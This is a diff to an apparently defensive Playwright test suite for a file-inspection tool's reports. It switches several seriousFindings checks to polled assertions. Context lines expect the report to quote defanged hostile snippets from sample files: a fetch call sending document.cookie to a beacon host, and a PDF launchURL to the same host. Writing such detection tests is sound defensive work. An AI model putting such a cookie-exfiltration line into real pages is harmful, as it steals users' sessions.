@@ -71,7 +71,7 @@ test('each file has a report: what was found, where its details stand, why one w
   const report = page.getByRole('document', { name: 'Airlock report' })
   await expect(report).toContainText('The name says a PDF, the bytes are plain text.')
   await expect(report).toContainText('nothing of it is in the case')
-  expect(await seriousFindings(page)).toEqual([])
+  await expect.poll(() => seriousFindings(page)).toEqual([])
 
   await page.getByRole('gridcell', { name: /ships\.html/ }).click()
   const findings = report.getByRole('table', { name: 'Findings' })
@@ -81,7 +81,7 @@ test('each file has a report: what was found, where its details stand, why one w
   await expect(report).toContainText('fetch("hxxps://beacon[.]example/?" + document.cookie)')
   const inspector = page.getByRole('complementary', { name: 'Inspector' })
   await expect(inspector).toContainText('meta og:site_name')
-  expect(await seriousFindings(page)).toEqual([])
+  await expect.poll(() => seriousFindings(page)).toEqual([])
 
   await page.getByRole('gridcell', { name: /quay\.pdf/ }).click()
   await expect(report).toContainText('app.launchURL("hxxps://beacon[.]example/")')
@@ -115,7 +115,7 @@ test('a mail is read with its header folded above the text, by key', async () =>
   await page.keyboard.press('h')
   await expect(text.getByText('Pigeon 2')).toHaveCount(0)
   await expect(text.locator('.rd-text')).toHaveText(/^\s*1?\s*The cranes stand still\.$/)
-  expect(await seriousFindings(page)).toEqual([])
+  await expect.poll(() => seriousFindings(page)).toEqual([])
 })
 
 test('the command line tells where the details of a file were found', () => {
